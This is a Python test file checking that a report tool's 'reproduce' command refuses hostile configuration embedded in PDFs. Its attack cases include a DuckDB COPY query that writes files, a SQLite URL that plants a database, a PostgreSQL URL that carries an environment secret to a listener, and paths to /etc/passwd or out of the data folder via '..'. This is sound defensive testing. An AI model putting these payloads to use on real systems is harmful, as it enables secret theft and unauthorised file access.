"""``reporter reproduce`` on a PDF from elsewhere: the configuration inside it is untrusted input.

A real PDF/A is written by ``reporter run``; hostile ones are made from it by replacing the
YAML attached to it (pikepdf). Each case runs the real CLI in a fresh folder whose temporary
folder is private, and checks that no file appears or changes anywhere in that tree (the
working directory, the temporary folder, the data) outside ``--output``, that no connection
reaches a listening socket, and the exact message.
"""

from __future__ import annotations

import hashlib
import json
import re
import socket
import sqlite3
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from reporter.cli import main
from tests.conftest import write_csv

MARKER = "s3cr3t-MARKER"
F = "report.yaml"
BASE = """\
report:
  id: repro
  title: Sales
  timezone: UTC
sources:
  sales: {type: csv, path: data/sales.csv, date_column: date}
metrics:
  revenue: {source: sales, agg: sum, column: amount}
kpis:
  revenue: {formula: revenue, format: currency}
delivery:
  email: {from: reports@acme.test, to: [boss@acme.test]}
"""
ROWS = [["2026-09-10", 80], ["2026-10-01", 50], ["2026-10-15", 70], ["2026-10-31", 30]]
NOTHING = "1 error: nothing was run or sent."
# reproduce, when a PDF differs though neither its data nor its numbers do
NOTHING_MOVED = (
    "no data file and no number changed since the archive: the PDF itself differs (altered "
    "after it was archived, or rendered by other versions of reporter or its libraries, "
    "named in its provenance.json); 'reporter verify ARCHIVE_DIR' checks the archived copy"
)


@pytest.fixture(scope="module")
def archived(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A PDF/A archived by a real ``reporter run`` (its YAML, results and provenance inside)."""
    work = tmp_path_factory.mktemp("archived")
    write_csv(work / "data" / "sales.csv", ["date", "amount"], ROWS)
    (work / F).write_text(BASE, encoding="utf-8")
    assert main(["run", str(work / F), "--period", "2026-10", "--output", str(work / "out")]) == 0
    (pdf,) = (work / "out" / "archive").rglob("*.pdf")
    return pdf


def origin(archived: Path) -> Path:
    """The folder the archived report was run from (its YAML and data/; the archive is
    out/archive/<report>/<period>/ under it)."""
    return archived.parents[4]


def craft(archived: Path, dest: Path, yaml_text: str) -> Path:
    """``archived`` with its embedded YAML replaced (the provenance still names it)."""
    import pikepdf

    with pikepdf.open(archived) as doc:
        del doc.attachments[F]
        doc.attachments[F] = pikepdf.AttachedFileSpec(doc, yaml_text.encode(), filename=F)
        doc.save(dest)
    return dest


def snapshot(root: Path) -> dict[Path, tuple[int, int]]:
    return {p: (p.stat().st_mtime_ns, p.stat().st_size) for p in root.rglob("*") if not p.is_dir()}


class Listener:
    """A TCP socket on loopback that records every connection made to it (and closes it)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(4096))
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def reproduce(tmp_path, monkeypatch, capsys, pdf: Path, *args: str) -> tuple[int, list[str], list[Path]]:
    """Run ``reporter reproduce PDF --output out ARGS`` from ``tmp_path/work`` with a private
    temporary folder; return the exit code, stderr (``T`` for tmp_path) and the files that
    appeared or changed under tmp_path, which must all lie under ``work/out``."""
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    private = tmp_path / "tmp"
    private.mkdir(exist_ok=True)
    monkeypatch.chdir(work)
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    monkeypatch.setenv("TMPDIR", str(private))
    monkeypatch.setenv("SMTP_PASSWORD", MARKER)
    before = snapshot(tmp_path)
    code = main(["reproduce", str(pdf), "--output", "out", *args])
    captured = capsys.readouterr()
    changed = [p for p, v in snapshot(tmp_path).items() if before.get(p) != v]
    assert all(p.is_relative_to(work / "out") for p in changed), changed
    assert "Traceback" not in captured.err + captured.out
    assert MARKER not in captured.err + captured.out
    return code, [line.replace(str(tmp_path), "T") for line in captured.err.splitlines()], changed


def with_source(source: str, metric: str) -> str:
    """BASE with one more source (first, so that it is read first) and a metric over it."""
    with_evil = BASE.replace("sources:\n", f"sources:\n  evil: {source}\n")
    return with_evil.replace("metrics:\n", f"metrics:\n  evil_rows: {metric}\n")


SQL_ATTACKS = {
    # DuckDB's COPY … TO writes a file wherever the query says (here: the working directory
    # and a folder beside it)
    "duckdb COPY TO": lambda t, port: (
        "{type: sql, url: 'duckdb:///:memory:', date_column: d, pushdown: false, "
        f"query: \"COPY (SELECT DATE '2026-10-01' AS d) TO '{t}/elsewhere/copied.csv'\"}}"
    ),
    "duckdb COPY TO the working directory": lambda t, port: (
        "{type: sql, url: 'duckdb:///:memory:', date_column: d, pushdown: false, "
        "query: \"COPY (SELECT DATE '2026-10-01' AS d) TO 'copied.csv'\"}"
    ),
    # connecting to SQLite creates its database file
    "sqlite creates a database": lambda t, port: (
        f"{{type: sql, url: 'sqlite:///{t}/elsewhere/planted.db', date_column: d, query: 'select 1 as d'}}"
    ),
    # a PostgreSQL address built to carry an environment value out (as its user name)
    "postgresql carries a secret out": lambda t, port: (
        f"{{type: sql, url: 'postgresql+psycopg://${{SMTP_PASSWORD}}@127.0.0.1:{port}/x?connect_timeout=2', "
        "date_column: d, query: 'select 1 as d'}"
    ),
}


@pytest.mark.parametrize("attack", list(SQL_ATTACKS))
def test_reproduce_runs_no_sql_source_of_the_pdf(tmp_path, monkeypatch, capsys, archived, listener, attack):
    """CRITICAL: the SQL of a PDF's configuration is not run, whether or not --data is given:
    no file is written anywhere outside --output, no connection is opened."""
    (tmp_path / "elsewhere").mkdir()
    source = SQL_ATTACKS[attack](tmp_path, listener.port)
    pdf = craft(archived, tmp_path / "evil.pdf", with_source(source, "{source: evil, agg: count}"))
    data = origin(archived)  # the provenance does not record it: its paths are relative

    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf)  # as a PDF would be run before
    assert listener.connections == []
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert (code, changed) == (2, [])
    assert err == [
        "reporter: error: T/evil.pdf: name the folder that holds the report's data: --data DIR "
        "(a copy of the folder that held its YAML: the paths it names are relative to it); reproduce reads "
        "no path the PDF names without it"
    ]

    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(data))
    assert listener.connections == []
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert (code, changed) == (2, [])
    assert err == [
        "T/evil.pdf » report.yaml:6:3: sources.evil: a SQL source: not run from a PDF's configuration "
        "(it would connect to the database the PDF names, with your environment); "
        "to run it anyway, name it: --allow-sql-sources evil",
        NOTHING,
    ]


def test_reproduce_names_every_refused_sql_source_and_the_option(tmp_path, monkeypatch, capsys, archived):
    for name in ("crm", "orders"):  # the operator's connections, defined here: their sources are refused
        monkeypatch.setenv(f"REPORTER_CONNECTION_{name.upper()}", f"sqlite:///{tmp_path}/{name}.db")
    two = BASE.replace(
        "sources:\n",
        "sources:\n"
        "  crm: {type: sql, connection: crm, query: 'select 1 as d', date_column: d}\n"
        "  orders: {type: sql, connection: orders, table: orders, date_column: d}\n",
    )
    pdf = craft(archived, tmp_path / "two.pdf", two)
    args = ("--data", str(origin(archived)))
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, pdf, *args)
    refusal = (
        "a SQL source: not run from a PDF's configuration (it would connect to the database the PDF "
        "names, with your environment); to run it anyway, name it: --allow-sql-sources"
    )
    assert (code, err) == (
        2,
        [
            f"T/two.pdf » report.yaml:6:3: sources.crm: {refusal} crm,orders",
            f"T/two.pdf » report.yaml:7:3: sources.orders: {refusal} crm,orders",
            "2 errors: nothing was run or sent.",
        ],
    )
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, pdf, *args, "--allow-sql-sources", "crm")
    assert (code, err) == (2, [f"T/two.pdf » report.yaml:7:3: sources.orders: {refusal} orders", NOTHING])
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, pdf, *args, "--allow-sql-sources", "crm,ordres")
    assert (code, err[-1:]) == (2, [NOTHING])  # orders is still refused: the misspelt name allows nothing

    one = BASE.replace(
        "sources:\n",
        "sources:\n  crm: {type: sql, connection: crm, query: 'select 1 as d', date_column: d}\n",
    )
    pdf = craft(archived, tmp_path / "one.pdf", one)
    code, err, changed = reproduce(
        tmp_path,
        monkeypatch,
        capsys,
        pdf,
        *args,
        "--allow-sql-sources",
        "crm",
        "--allow-sql-sources",
        "ordres",
    )
    assert (code, err, changed) == (
        2,
        [
            "reporter: error: --allow-sql-sources: no SQL source 'ordres' in the PDF's configuration "
            "(its SQL sources: crm)"
        ],
        [],
    )


def test_an_allowed_sql_source_is_run(tmp_path, monkeypatch, capsys):
    """With the caller's consent (--allow-sql-sources), a SQL source runs as in the original
    run, and the same data gives the same PDF, byte for byte."""
    work = tmp_path / "origin"
    work.mkdir()
    with sqlite3.connect(work / "orders.db") as db:
        db.execute("create table orders (d date, amount int)")
        db.executemany("insert into orders values (?, ?)", ROWS)
    db.close()
    monkeypatch.setenv("REPORTER_CONNECTION_ORDERS", f"sqlite:///{work}/orders.db")  # the operator's
    yaml_text = BASE.replace(
        "  sales: {type: csv, path: data/sales.csv, date_column: date}",
        "  sales: {type: sql, connection: orders, table: orders, date_column: d}",
    )
    (work / F).write_text(yaml_text, encoding="utf-8")
    assert main(["run", str(work / F), "--period", "2026-10", "--output", str(work / "out")]) == 0
    (pdf,) = (work / "out" / "archive").rglob("*.pdf")
    code, err, changed = reproduce(
        tmp_path, monkeypatch, capsys, pdf, "--data", str(work), "--allow-sql-sources", "sales"
    )
    assert (code, err) == (0, [])
    assert changed == [tmp_path / "work" / "out" / "reproduced" / pdf.name]
    assert changed[0].read_bytes() == pdf.read_bytes()


def test_reproduce_reads_the_data_under_data_dir_only(tmp_path, monkeypatch, capsys, archived):
    """The data is read from --data, not from the folder the PDF records; the same data there
    gives a byte-identical PDF; a changed file is named."""
    copy = tmp_path / "copy"
    write_csv(copy / "data" / "sales.csv", ["date", "amount"], ROWS)
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, archived, "--data", str(copy))
    assert (code, err) == (0, [])
    assert changed == [tmp_path / "work" / "out" / "reproduced" / archived.name]  # no ledger, no archive
    assert changed[0].read_bytes() == archived.read_bytes()

    write_csv(copy / "data" / "sales.csv", ["date", "amount"], [*ROWS, ["2026-10-20", 1]])
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, archived, "--data", str(copy))
    assert (code, err[:3], err[-1]) == (
        1,
        [
            "data changed since the archive: sales",
            "results.json: 10 field(s) changed since the archive (old → new):",
            "  kpis.revenue.value: 150.0 → 151.0",
        ],
        f"out/reproduced/{archived.name}: DIFFERS from {archived}",
    )

    (copy / "data" / "sales.csv").unlink()
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, archived, "--data", str(copy))
    assert (code, err) == (
        2,
        [
            f"{archived} » report.yaml:6:28: sources.sales.path: 'data/sales.csv' is not in the data folder "
            "(no file T/copy/data/sales.csv); copy there the file the report was run with, or name the "
            "folder that holds it: --data DIR",
            NOTHING,
        ],
    )
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, archived, "--data", str(copy / "nowhere"))
    assert (code, err) == (2, ["reporter: error: --data T/copy/nowhere: not a folder"])


def path_case(name: str, tmp_path: Path) -> tuple[str, str]:
    """A YAML whose source (or template) names a file outside the data folder, and the message."""
    secret = tmp_path / "elsewhere" / "secret.csv"
    at = "report.yaml:6:28: sources.sales.path"
    if name == "absolute":
        return (
            BASE.replace("path: data/sales.csv", f"path: {secret}"),
            f"{at}: '{secret}' is not in the data folder (no file {tmp_path}/data{secret}); "
            "copy there the file the report was run with, or name the folder that holds it: --data DIR",
        )
    if name == "/etc/passwd":
        return (
            BASE.replace("path: data/sales.csv", "path: /etc/passwd"),
            f"{at}: '/etc/passwd' is not in the data folder (no file T/data/etc/passwd); "
            "copy there the file the report was run with, or name the folder that holds it: --data DIR",
        )
    if name == "climbing out":
        return (
            BASE.replace("path: data/sales.csv", "path: data/../../elsewhere/secret.csv"),
            f"{at}: 'data/../../elsewhere/secret.csv' leaves the data folder: reproduce reads only files "
            "under --data; copy the file the report was run with under the data folder",
        )
    assert name == "a template elsewhere"
    return (
        BASE.replace("  timezone: UTC\n", f"  timezone: UTC\n  template: {tmp_path}/elsewhere\n"),
        f"report.yaml:5:13: report.template: template folder not found: {tmp_path}/data{tmp_path}/elsewhere; "
        "built-in templates: ",
    )


@pytest.mark.parametrize("name", ["absolute", "/etc/passwd", "climbing out", "a template elsewhere"])
def test_reproduce_reads_no_path_the_pdf_names_outside_data(tmp_path, monkeypatch, capsys, archived, name):
    """An absolute path in the PDF's YAML is looked up under --data (its root removed), never
    where it points; ``..`` out of --data is refused."""
    data = tmp_path / "data"
    write_csv(data / "data" / "sales.csv", ["date", "amount"], ROWS)
    # a valid data file where the hostile path points: reading it would succeed
    write_csv(tmp_path / "elsewhere" / "secret.csv", ["date", "amount"], [["2026-10-02", 999999]])
    (tmp_path / "elsewhere" / "report.html").write_text("{{ 'TEMPLATE-MARKER' }}", encoding="utf-8")
    yaml_text, message = path_case(name, tmp_path)
    pdf = craft(archived, tmp_path / "abs.pdf", yaml_text)
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf)  # no path from the PDF without --data
    assert (code, changed) == (2, [])
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(data))
    assert changed == []
    assert code == 2
    assert err[0].startswith(f"T/abs.pdf » {message}".replace(str(tmp_path), "T")), err


def test_an_absolute_path_is_found_under_data(tmp_path, monkeypatch, capsys, archived):
    """/srv/exports/sales.csv in the PDF's YAML is read from DATA/srv/exports/sales.csv."""
    data = tmp_path / "data"
    write_csv(data / "srv" / "exports" / "sales.csv", ["date", "amount"], ROWS)
    pdf = craft(
        archived, tmp_path / "abs.pdf", BASE.replace("path: data/sales.csv", "path: /srv/exports/sales.csv")
    )
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(data))
    # rendered (the YAML inside differs from the archived one, so the PDF does too)
    assert (code, err) == (1, [NOTHING_MOVED, "out/reproduced/abs.pdf: DIFFERS from T/abs.pdf"])
    from reporter.delivery.archive import attachments_of

    results = json.loads(attachments_of(changed[0].read_bytes())["results.json"])
    assert results["kpis"]["revenue"]["value"] == 50 + 70 + 30


def test_reproduce_from_a_moved_folder_is_byte_identical_and_names_the_changed_fields(
    tmp_path, monkeypatch, capsys
):
    """The provenance records paths relative to the YAML (no folder of the host that ran it):
    the report's folder moved elsewhere reproduces byte for byte; one CSV value changed there
    is named field by field (old → new), exit 1."""
    from reporter.delivery.archive import attachments_of

    first = tmp_path / "first"
    write_csv(first / "data" / "sales.csv", ["date", "amount"], ROWS)
    (first / F).write_text(BASE, encoding="utf-8")
    assert main(["run", str(first / F), "--period", "2026-10", "--output", str(first / "out")]) == 0
    (pdf,) = (first / "out" / "archive").rglob("*.pdf")
    facts = json.loads(attachments_of(pdf.read_bytes())["provenance.json"])
    assert "folder" not in facts["configuration"]
    assert [s["location"] for s in facts["sources"]] == ["data/sales.csv"]
    assert str(tmp_path) not in json.dumps(facts)
    moved = tmp_path / "elsewhere" / "moved"
    moved.parent.mkdir()
    first.rename(moved)
    pdf = moved / pdf.relative_to(first)
    capsys.readouterr()

    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(moved))
    assert (code, err) == (0, [])
    assert changed[0].read_bytes() == pdf.read_bytes()

    rows = [r if r[0] != "2026-10-15" else ["2026-10-15", 71] for r in ROWS]  # 70 → 71
    write_csv(moved / "data" / "sales.csv", ["date", "amount"], rows)
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(moved))
    old_sha = facts["sources"][0]["sha256"]
    new_sha = hashlib.sha256((moved / "data" / "sales.csv").read_bytes()).hexdigest()
    assert code == 1
    assert err == [  # October: 50 + 71 + 30; September 80, the fiscal year's first month
        "data changed since the archive: sales",
        "results.json: 7 field(s) changed since the archive (old → new):",
        "  kpis.revenue.value: 150.0 → 151.0",
        "  kpis.revenue.change_vs_previous: 0.875 → 0.8875",
        "  kpis.revenue.ytd: 230.0 → 231.0",
        "  kpis.revenue.series[11].value: 150.0 → 151.0",
        f'  sources[0].sha256: "{old_sha}" → "{new_sha}"',
        "  moves.vs_previous.favourable[0].change: 0.875 → 0.8875",
        "  moves.vs_previous.favourable[0].value: 150.0 → 151.0",
        f"out/reproduced/{pdf.name}: DIFFERS from {pdf}".replace(str(tmp_path), "T"),
    ]


def test_the_changed_fields_name_each_leaf_and_what_one_side_lacks():
    from reporter.run.reproduce import _changed_fields

    old = {"a": 1, "b": {"c": [1, 2]}, "gone": {"x": 1}, "same": [1]}
    new = {"a": 1.5, "b": {"c": [1]}, "same": [1], "added": {"y": None}}
    assert _changed_fields(old, new) == [
        ("a", "1", "1.5"),
        ("b.c[1]", "2", "(none)"),
        ("gone.x", "1", "(none)"),
        ("added.y", "(none)", "null"),
    ]
    assert _changed_fields(1, 1.0) == [("(the whole file)", "1", "1.0")]


def test_a_reproduction_that_differs_in_many_fields_names_the_first_20(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "many"
    write_csv(folder / "data" / "sales.csv", ["date", "amount"], ROWS)
    kpis = "".join(f"  r{i}: {{formula: revenue * {i}}}\n" for i in range(1, 13))
    (folder / F).write_text(BASE.replace("kpis:\n", "kpis:\n" + kpis), encoding="utf-8")
    assert main(["run", str(folder / F), "--period", "2026-10", "--output", str(folder / "out")]) == 0
    (pdf,) = (folder / "out" / "archive").rglob("*.pdf")
    rows = [r if r[0] != "2026-10-15" else ["2026-10-15", 71] for r in ROWS]
    write_csv(folder / "data" / "sales.csv", ["date", "amount"], rows)
    capsys.readouterr()
    code, err, _ = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(folder))
    assert code == 1
    head = re.fullmatch(r"results\.json: (\d+) field\(s\) changed since the archive \(old → new\):", err[1])
    assert head is not None, err
    count = int(head.group(1))
    assert count > 20  # 13 KPIs, each with its value, change, year to date and last point
    assert err[0] == "data changed since the archive: sales"
    assert err[2:4] == ["  kpis.r1.value: 150.0 → 151.0", "  kpis.r1.change_vs_previous: 0.875 → 0.8875"]
    assert all(line.startswith("  kpis.r") for line in err[2:22])
    assert len(err) == 24
    assert err[22] == f"  … and {count - 20} more"
    assert err[23].endswith(f"DIFFERS from {pdf}".replace(str(tmp_path), "T"))


def test_a_pdf_altered_outside_its_numbers_says_where_the_difference_can_come_from(
    tmp_path, monkeypatch, capsys, archived
):
    """An archived PDF edited after the fact (here: bytes appended after its end) reproduces
    from its own YAML and data to the same numbers: "DIFFERS" alone left the auditor with no
    lead, since neither a data file nor a figure is named. The line before it says so and
    points to ``reporter verify``."""
    altered = tmp_path / "altered.pdf"
    altered.write_bytes(archived.read_bytes() + b"%edited\n")
    monkeypatch.chdir(tmp_path)
    code = main(["reproduce", str(altered), "--data", str(origin(archived)), "--output", "out"])
    err = capsys.readouterr().err.splitlines()
    assert (code, err) == (1, [NOTHING_MOVED, f"out/reproduced/altered.pdf: DIFFERS from {altered}"])
    assert (tmp_path / "out" / "reproduced" / "altered.pdf").read_bytes() == archived.read_bytes()


def test_reproduce_refuses_an_archived_pdf_that_is_not_the_one_the_manifest_lists(
    tmp_path, monkeypatch, capsys, archived
):
    """A PDF in an archive is reproduced only when it is the file its manifest line lists: an
    altered or a stray one is refused (exit 1, nothing written), a purged one is named as such."""
    import datetime as dt
    import shutil

    from reporter.delivery.archive import MANIFEST
    from reporter.delivery.retention import purge

    archive = shutil.copytree(archived.parents[2], tmp_path / "copy" / "archive")
    pdf = archive / archived.relative_to(archived.parents[2])
    copy = tmp_path / "data"
    write_csv(copy / "data" / "sales.csv", ["date", "amount"], ROWS)
    line = json.loads((archive / MANIFEST).read_text(encoding="utf-8").splitlines()[0])
    assert line["path"] == "repro/2026-10/repro_2026-10_v1.pdf"
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(copy))
    assert (code, err, len(changed)) == (0, [], 1)  # the file the manifest lists: reproduced

    stray = pdf.with_name("repro_2026-10_v9.pdf")
    shutil.copyfile(pdf, stray)
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, stray, "--data", str(copy))
    assert (code, err, changed) == (
        1,
        [
            f"reporter: error: {stray}: not listed in {archive}/{MANIFEST}: not reproduced; run "
            f"'reporter verify {archive}'".replace(str(tmp_path), "T")
        ],
        [],
    )
    stray.unlink()
    pdf.chmod(0o644)
    with pdf.open("ab") as handle:
        handle.write(b"\n% appended\n")
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(copy))
    assert (code, err, changed) == (
        1,
        [
            "reporter: error: T/copy/archive/repro/2026-10/repro_2026-10_v1.pdf: altered since it was "
            "archived (SHA-256 differs from T/copy/archive/manifest.jsonl line 1): not reproduced; run "
            "'reporter verify T/copy/archive'"
        ],
        [],
    )
    later = dt.datetime(2034, 1, 2, tzinfo=dt.UTC)
    assert line["path"] in [e["path"] for e in purge(archive, before=later, now=later, keep="7y").purged]
    code, err, changed = reproduce(tmp_path, monkeypatch, capsys, pdf, "--data", str(copy))
    assert (code, err, changed) == (
        2,
        [
            "reporter: error: T/copy/archive/repro/2026-10/repro_2026-10_v1.pdf: purged under retention on "
            "2034-01-02 ('reporter archive purge'); manifest.jsonl line 1 keeps its SHA-256, "
            f"{line['sha256']}: nothing to reproduce"
        ],
        [],
    )
